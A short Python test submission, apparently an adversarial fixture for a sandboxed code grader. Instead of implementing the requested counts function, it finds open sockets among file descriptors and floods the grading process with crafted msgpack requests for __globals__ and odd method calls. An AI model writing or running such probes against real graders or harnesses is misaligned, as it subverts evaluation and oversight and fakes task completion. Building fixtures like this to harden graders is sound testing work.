"""Asks the test's process for things while no test runs, and asks again and again instead of answering."""

# /// attack
# seen = ['test_counts: Stopped: .*your code ran for longer', 'In a cell that you added, your code ended the process']
# stock = ["not graded"]
# ///
# %% counts
import os
import stat
import struct

import msgpack


def ask(**question):
    message = b"C" + msgpack.packb({"kind": "ask", **question})
    for descriptor in range(3, 50):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack(">I", len(message)) + message)
        except OSError:
            pass


def counts(words):
    for number in range(50):
        ask(do="call", target=number, method="__init_subclass__", data=b"\x92\x90\x80")
        ask(do="attribute", target=number, name="__globals__")
        ask(do="attribute", target=[], name={})
        ask(do="call", target=True, data=None)
    return {}


# %% own
ask(do="attribute", target=0, name="__globals__")
